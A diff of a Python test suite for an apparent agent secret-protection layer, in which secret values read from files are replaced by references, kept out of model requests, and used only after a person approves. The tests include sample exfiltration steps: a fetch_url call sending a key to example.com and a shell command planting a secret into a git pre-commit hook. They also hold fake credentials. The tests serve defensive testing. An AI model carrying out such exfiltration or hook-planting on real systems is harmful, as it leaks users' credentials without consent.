@@ -66,11 +66,11 @@ async def test_a_model_reads_a_reference_and_an_edit_keeps_the_value(here: Town)
     here.model.call("shell", command=f"printf %s {reference[0]} | wc -c")
     counted = await asked(here, then="Counted.")
 
-    assert read == f"NAME=old\nTOKEN={reference[0]}\nPASSWORD=p9sDk2qW7z"
+    assert read.endswith(f"\n1\tNAME=old\n2\tTOKEN={reference[0]}\n3\tPASSWORD=p9sDk2qW7z")
     assert edited.startswith("Replaced 1 place")
     assert env.read_text() == f"NAME=new\nTOKEN={KEY}\nPASSWORD=p9sDk2qW7z\n"
     assert (env.parent / "copy.env").read_text() == f"KEY={KEY}\n"
-    assert counted.strip() == str(len(KEY))
+    assert counted.split()[0] == str(len(KEY))
     assert KEY not in json.dumps(here.model.requests)
     assert KEY not in await everything_stored(here)
     assert KEY.encode() not in await here.store.fetchval("select wrapped from nexora_hidden")
@@ -140,7 +140,7 @@ async def test_a_reference_of_nothing_or_of_another_conversation_is_refused_with
 async def test_a_secret_leaves_only_when_a_person_agrees_and_the_card_shows_the_reference(here: Town) -> None:
     (workspace(here) / "a.txt").write_text(KEY)
     here.model.call("read_file", path="a.txt")
-    reference = await asked(here, then="Read.")
+    reference = REFERENCE.findall(await asked(here, then="Read."))[0]
     here.model.call("fetch_url", url=f"https://example.com/?key={reference}")
     told = await asked(here, then="Asked.")
     card = await here.hears("root", "wants to run fetch_url")
@@ -156,7 +156,7 @@ async def test_a_secret_leaves_only_when_a_person_agrees_and_the_card_shows_the_
 async def test_an_approved_command_runs_with_the_value_and_shows_none(here: Town) -> None:
     (workspace(here) / "a.txt").write_text(KEY)
     here.model.call("read_file", path="a.txt")
-    reference = await asked(here, then="Read.")
+    reference = REFERENCE.findall(await asked(here, then="Read."))[0]
     here.model.call("shell", command=f"mkdir -p .git/hooks && printf %s {reference} > .git/hooks/pre-commit")
     here.model.say("Asked.")
     here.say("alice", "plant it")
@@ -174,16 +174,19 @@ async def test_an_approved_command_runs_with_the_value_and_shows_none(here: Town
 
 async def test_a_value_that_a_shell_would_interpret_cannot_stand_in_a_command(here: Town) -> None:
     lines = "\n".join("".join(_RNG.choices("ABCDEFabcdef0123456789", k=64)) for _ in range(3))
-    (workspace(here) / "id.pem").write_text(f"-----BEGIN PRIVATE KEY-----\n{lines}\n-----END PRIVATE KEY-----\n")
+    key = f"-----BEGIN PRIVATE KEY-----\n{lines}\n-----END PRIVATE KEY-----\n"
+    (workspace(here) / "id.pem").write_text(f"{key}last\n")
     here.model.call("read_file", path="id.pem")
     read = await asked(here, then="Read.")
     reference = REFERENCE.search(read)
     assert reference is not None
+    row, last = read.removeprefix(f"{read.splitlines()[0]}\n1\t").split("\n")
     here.model.call("shell", command=f"echo {reference[0]}")
     told = await asked(here, then="No.")
-    here.model.call("write_file", path="again.pem", content=f"{read}\n")
+    here.model.call("write_file", path="again.pem", content=f"{row}\nlast\n")
     await asked(here, then="Yes.")
 
+    assert last == "6\tlast"
     assert "holds signs that a shell interprets" in told
     assert (workspace(here) / "again.pem").read_bytes() == (workspace(here) / "id.pem").read_bytes()
 
